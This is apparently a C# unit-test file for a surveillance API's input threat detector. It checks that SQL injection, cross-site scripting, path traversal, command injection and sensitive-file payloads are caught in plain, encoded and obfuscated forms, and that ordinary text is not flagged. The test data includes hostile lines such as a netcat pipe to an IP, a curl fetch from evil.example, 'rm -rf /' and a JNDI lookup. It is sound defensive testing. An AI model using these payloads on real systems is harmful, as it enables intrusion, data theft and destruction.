using Surveillance.Api.Edge;

namespace Surveillance.Tests.Edge;

public sealed class ThreatRulesTests
{
    private const string Location = "json:$.description";

    [Theory]
    [InlineData("x' OR '1'='1")]
    [InlineData("\" or 1=1 --")]
    [InlineData("admin'--")]
    [InlineData("admin' #")]
    [InlineData("') or ('a'='a")]
    [InlineData("' or true--")]
    [InlineData("'; DROP TABLE users; --")]
    [InlineData("1; delete from videos")]
    [InlineData("1; INSERT INTO users VALUES ('x')")]
    [InlineData("1; update users set role='admin'")]
    [InlineData("1 UNION SELECT username, password_hash FROM users")]
    [InlineData("1 union all select null")]
    [InlineData("1 UnIoN/**/SeLeCt 1")]
    [InlineData("1 union(select 1)")]
    [InlineData("1 and sleep(5)")]
    [InlineData("1; select pg_sleep(10)")]
    [InlineData("1 and benchmark(1000000,md5(1))")]
    [InlineData("x' and 1=(select count(*) from information_schema.tables)--")]
    [InlineData("x%27%20OR%20%271%27%3D%271")]
    [InlineData("x%2527%2520OR%2520%25271%2527%253D%25271")]
    [InlineData("1%20%55NION%20%53ELECT%201")]
    [InlineData("x\uFF07 \uFF2F\uFF32 \uFF07\uFF11\uFF07\uFF1D\uFF07\uFF11")]
    [InlineData("x&#39; OR &#39;1&#39;=&#39;1")]
    [InlineData("x&apos; or &apos;1&apos;=&apos;1")]
    [InlineData("1 union\tselect 1")]
    [InlineData("1 union\0 select 1")]
    public void SqlInjection_IsDetected_PlainEncodedAndObfuscated(string payload) =>
        AssertFinding(payload, ThreatKind.SqlInjection, "malicious_sqli");

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example/x.js>")]
    [InlineData("</script><script>alert(1)")]
    [InlineData("%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("%253Cscript%253E")]
    [InlineData("%25253Cscript%25253E")]
    [InlineData("\uFF1C\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54\uFF1E")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("&LT;script&GT;")]
    [InlineData("&#60;script&#62;")]
    [InlineData("&#x3C;script")]
    [InlineData("&#0000060script")]
    [InlineData("%26lt%3Bscript%26gt%3B")]
    [InlineData("<scr\0ipt>")]
    [InlineData("<scr\u200Bipt>")]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("JaVaScRiPt:alert(1)")]
    [InlineData("java\tscript:alert(1)")]
    [InlineData("javascript&#58;alert(1)")]
    [InlineData("javascript&colon;alert(1)")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<IMG SRC=x ONERROR=alert(1)>")]
    [InlineData("<body onload =alert(1)>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("\" onmouseover=\"alert(1)")]
    [InlineData("<iframe src=//evil.example>")]
    public void ScriptInjection_IsDetected_PlainEncodedAndObfuscated(string payload) =>
        AssertFinding(payload, ThreatKind.ScriptInjection, "malicious_xss");

    [Theory]
    [InlineData("../../secret")]
    [InlineData("..\\..\\windows\\system.ini")]
    [InlineData("%2e%2e%2f%2e%2e%2fsecret")]
    [InlineData("%2E%2E%2Fsecret")]
    [InlineData("%252e%252e%252fsecret")]
    [InlineData("..%2fsecret")]
    [InlineData("..%5csecret")]
    [InlineData("%2e%2e/secret")]
    [InlineData("%c0%ae%c0%ae/secret")]
    [InlineData("%C0%AE%C0%AE%C0%AFsecret")]
    [InlineData("%e0%80%ae%e0%80%ae/secret")]
    [InlineData("%u002e%u002e%u002fsecret")]
    [InlineData("....//....//secret")]
    [InlineData("..;/secret")]
    [InlineData("videos/..")]
    [InlineData("..")]
    [InlineData("\uFF0E\uFF0E\uFF0Fsecret")]
    [InlineData("\u2025/secret")]
    [InlineData("&#46;&#46;&#47;secret")]
    [InlineData(".%00./secret")]
    public void PathTraversal_IsDetected_PlainEncodedAndObfuscated(string payload) =>
        AssertFinding(payload, ThreatKind.PathTraversal, "malicious_path_traversal");

    [Theory]
    [InlineData("cmd.exe /c dir")]
    [InlineData("C:\\Windows\\System32\\CMD.EXE")]
    [InlineData("powershell.exe -enc AAAA")]
    [InlineData("/bin/sh -i")]
    [InlineData("/bin/bash -c id")]
    [InlineData("x; rm -rf /")]
    [InlineData("x && rm -fr ~")]
    [InlineData("x | nc 10.0.0.1 4444")]
    [InlineData("x | sh")]
    [InlineData("x; curl http://evil.example/x.sh")]
    [InlineData("$(whoami)")]
    [InlineData("`id`")]
    [InlineData("`cat /home/x`")]
    [InlineData("x || whoami")]
    [InlineData("cat${IFS}x")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("x%3B%20rm%20-rf%20%2F")]
    [InlineData("x%253B%2520rm%2520-rf%2520%252F")]
    [InlineData("%2Fbin%2Fsh")]
    [InlineData("\uFF0F\uFF42\uFF49\uFF4E\uFF0F\uFF53\uFF48")]
    [InlineData("&#47;bin&#47;sh")]
    [InlineData("/BIN/SH")]
    public void CommandInjection_IsDetected_PlainEncodedAndObfuscated(string payload) =>
        AssertFinding(payload, ThreatKind.CommandInjection, "malicious_cmd_injection");

    [Theory]
    [InlineData("/etc/passwd")]
    [InlineData("/ETC/PASSWD")]
    [InlineData("/etc//shadow")]
    [InlineData("%2Fetc%2Fpasswd")]
    [InlineData("%252Fetc%252Fpasswd")]
    [InlineData("\uFF0F\uFF45\uFF54\uFF43\uFF0F\uFF50\uFF41\uFF53\uFF53\uFF57\uFF44")]
    [InlineData("&#47;etc&#47;passwd")]
    [InlineData("/proc/self/environ")]
    [InlineData("c:\\windows\\win.ini")]
    public void SensitiveFile_IsDetected_PlainEncodedAndObfuscated(string payload) =>
        AssertFinding(payload, ThreatKind.SensitiveFile, "malicious_sensitive_file");

    // Ordinary descriptions, names and identifiers: a false alarm blocks an honest client's IP.
    [Theory]
    [InlineData("person dropping a bag")]
    [InlineData("O'Brien at the gate")]
    [InlineData("O'Reilly and O'Brien were seen")]
    [InlineData("select a camera")]
    [InlineData("union station")]
    [InlineData("Union Station at 5 o'clock")]
    [InlineData("select the union of both views")]
    [InlineData("a description with an apostrophe's")]
    [InlineData("the man's bag")]
    [InlineData("don't or won't")]
    [InlineData("north gate; south gate")]
    [InlineData("Rock 'n' roll")]
    [InlineData("he said 'no' and left")]
    [InlineData("the \"#1\" camera")]
    [InlineData("50% off")]
    [InlineData("100%")]
    [InlineData("C:\\videos\\cam1.mp4")]
    [InlineData("1 = 1 meeting")]
    [InlineData("a = b or c = d")]
    [InlineData("find the red or blue car and the bike")]
    [InlineData("drop-off zone")]
    [InlineData("drop table tennis")]
    [InlineData("delete old footage please")]
    [InlineData("update: the gate is closed")]
    [InlineData("shell station")]
    [InlineData("script writer")]
    [InlineData("a < script writer's fee")]
    [InlineData("javascript tutorial")]
    [InlineData("bin/sh")]
    [InlineData("sleep (8 hours)")]
    [InlineData("asleep(ish)")]
    [InlineData("Tom & Jerry, R&D, AT&T")]
    [InlineData("fish & chips; cat food")]
    [InlineData("x < 5 and y > 3")]
    [InlineData("temperature<5, one = ok")]
    [InlineData("online = true")]
    [InlineData("email me at <first.last+tag@example.com>")]
    [InlineData("first.last+tag@example.com")]
    [InlineData("2024-05-01T12:34:56.789Z")]
    [InlineData("2024-05-01T12:34:56+02:00")]
    [InlineData("SGVsbG8gd29ybGQ/IGFiYysvZGVm+w==")]
    [InlineData("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiJ9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk")]
    [InlineData("3f2504e0-4f89-11d3-9a0c-0305e82c3301")]
    [InlineData("wait... then")]
    [InlineData("wait\u2026 then")]
    [InlineData("file.tar.gz")]
    [InlineData("..hidden.mp4")]
    [InlineData("my video (1).mp4")]
    [InlineData("5' 10\" tall man")]
    [InlineData("it's 6' -- maybe 7'")]
    [InlineData("pages 1..5")]
    [InlineData("C# and C++ developer")]
    [InlineData("price $5 (approx)")]
    [InlineData("use the `camera_id` field")]
    [InlineData("Café naïve façade \uFF21\uFF22\uFF23")]
    [InlineData("")]
    public void OrdinaryText_IsNotFlagged(string text)
    {
        Assert.Null(ThreatRules.Inspect(text, Location));
        Assert.Null(ThreatRules.Inspect(text, "query:q"));
        Assert.Null(ThreatRules.Inspect(text, "form:description"));
    }

    [Theory]
    [InlineData("'; DROP TABLE users; --")]
    [InlineData("x' OR '1'='1")]
    [InlineData("1 union select password from users")]
    public void SearchQuery_SqlWords_AreOrdinarySearches(string query)
    {
        Assert.Null(ThreatRules.Inspect(query, "json:$.query", InputContext.SearchQuery));
        Assert.Equal(ThreatKind.SqlInjection, ThreatRules.Inspect(query, "json:$.description")?.Kind);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", ThreatKind.ScriptInjection)]
    [InlineData("../../etc/passwd", ThreatKind.PathTraversal)]
    [InlineData("%253Cscript%253E", ThreatKind.ScriptInjection)]
    [InlineData("/etc/passwd", ThreatKind.SensitiveFile)]
    [InlineData("x; rm -rf /", ThreatKind.CommandInjection)]
    public void SearchQuery_ScriptTraversalAndShellPayloads_AreStillCaught(string query, ThreatKind expected)
    {
        var finding = ThreatRules.Inspect(query, "json:$.query", InputContext.SearchQuery);

        Assert.Equal(new ThreatFinding(expected, "json:$.query"), finding);
    }

    [Theory]
    [InlineData("path")]
    [InlineData("query:q")]
    [InlineData("json:$.description")]
    [InlineData("form:username")]
    [InlineData("multipart:filename")]
    public void Finding_NamesWhereThePayloadWas(string location) =>
        Assert.Equal(location, ThreatRules.Inspect("<script>", location)?.Location);

    [Fact]
    public void Finding_Location_CannotCarryInjectedTextIntoLogsOrTheProblemBody()
    {
        var finding = ThreatRules.Inspect("<script>", "query:<b>\r\n2024-01-01 admin login ok");
        var longName = ThreatRules.Inspect("../x", "json:$." + new string('k', 500));

        Assert.Equal("query:?b???2024-01-01?admin?login?ok", finding?.Location);
        Assert.Equal("json:$." + new string('k', 93), longName?.Location);
    }

    [Fact]
    public void QueryAndFormValues_DecodePlusAsSpace_SoUnionPlusSelectIsCaught()
    {
        Assert.Equal(ThreatKind.SqlInjection, ThreatRules.Inspect("1+union+select+1", "query:id")?.Kind);
        Assert.Equal(ThreatKind.SqlInjection, ThreatRules.Inspect("1+union%2Bselect+1", "form:id")?.Kind);
        Assert.Equal("1 union select 1", InputCanonicalizer.Canonicalize("1+UNION+select+1", plusIsSpace: true));
        Assert.Equal("c++ 1+1", InputCanonicalizer.Canonicalize("C++ 1+1"));
    }

    [Fact]
    public void Canonicalizer_PeelsEveryEncodingLayer_UpToTheBound()
    {
        Assert.Equal("../", InputCanonicalizer.Canonicalize("%252525252e%252525252e%252525252f"));
        Assert.Equal("<script>", InputCanonicalizer.Canonicalize("\uFF1C\uFF33\uFF23\uFF32\uFF29\uFF30\uFF34\uFF1E"));
        Assert.Equal("a b c", InputCanonicalizer.Canonicalize("  A \t\r\n B\u3000\u00A0c\0 "));

        // Six layers: the sixth is left encoded rather than costing a round per character.
        var sixLayers = "%" + string.Concat(Enumerable.Repeat("25", 5)) + "2e";
        Assert.Equal("%2e", InputCanonicalizer.Canonicalize(sixLayers));
    }

    [Fact]
    public void MalformedEscapes_AreKeptOrReplaced_NeverThrown()
    {
        Assert.Equal("%zz % %4", InputCanonicalizer.Canonicalize("%zz % %4"));
        Assert.Equal("a\uFFFDb\uFFFD", InputCanonicalizer.Canonicalize("a%c0b%ff"));
        Assert.Equal("\uFFFD\uFFFD", InputCanonicalizer.Canonicalize("&#0;&#x110000;"));
        Assert.Equal("x\uFFFDy", InputCanonicalizer.Canonicalize("x\uD800y"));
        Assert.Null(ThreatRules.Inspect("%ed%a0%80 &#xd800; %u", Location));
    }

    [Fact]
    public void ReDoS_HugeCraftedInputs_CompleteWithTheRightAnswer()
    {
        var quotesAndOrs = string.Concat(Enumerable.Repeat("' or ", 20_000));
        var letters = new string('a', 100_000) + "!";
        var openTags = string.Concat(Enumerable.Repeat("<a ", 35_000));
        var nestedEncoding = "%" + string.Concat(Enumerable.Repeat("25", 50_000)) + "2e";

        Assert.Null(ThreatRules.Inspect(quotesAndOrs, Location));
        Assert.Equal(ThreatKind.SqlInjection, ThreatRules.Inspect(quotesAndOrs + "'1'='1", Location)?.Kind);
        Assert.Null(ThreatRules.Inspect(letters, Location));
        Assert.Null(ThreatRules.Inspect(openTags, Location));
        Assert.Equal(ThreatKind.ScriptInjection, ThreatRules.Inspect(openTags + "onerror=alert(1)", Location)?.Kind);
        Assert.Null(ThreatRules.Inspect(nestedEncoding, Location));
    }

    [Fact]
    public void PayloadAfterALongHarmlessPrefix_IsStillCaught()
    {
        var prefix = string.Concat(Enumerable.Repeat("person dropping a bag ", 10_000));

        Assert.Equal(ThreatKind.ScriptInjection, ThreatRules.Inspect(prefix + "<script>", Location)?.Kind);
        Assert.Equal(ThreatKind.PathTraversal, ThreatRules.Inspect(prefix + "%252e%252e%252f", Location)?.Kind);
    }

    [Fact]
    public void Inspect_IsThreadSafe_UnderConcurrentUse()
    {
        string[] inputs = ["<script>", "union station", "../x", "O'Brien", "x' or '1'='1", "/bin/sh"];
        var expected = inputs.Select(i => ThreatRules.Inspect(i, Location)?.Kind).ToArray();

        var results = new ThreatKind?[2_000];
        Parallel.For(0, results.Length, n => results[n] = ThreatRules.Inspect(inputs[n % inputs.Length], Location)?.Kind);

        Assert.Equal([ThreatKind.ScriptInjection, null, ThreatKind.PathTraversal, null, ThreatKind.SqlInjection, ThreatKind.CommandInjection], expected);
        Assert.All(Enumerable.Range(0, results.Length), n => Assert.Equal(expected[n % inputs.Length], results[n]));
    }

    private static void AssertFinding(string payload, ThreatKind kind, string eventName)
    {
        var finding = ThreatRules.Inspect(payload, Location);

        Assert.Equal(new ThreatFinding(kind, Location), finding);
        Assert.Equal(eventName, finding!.EventName);
    }
}
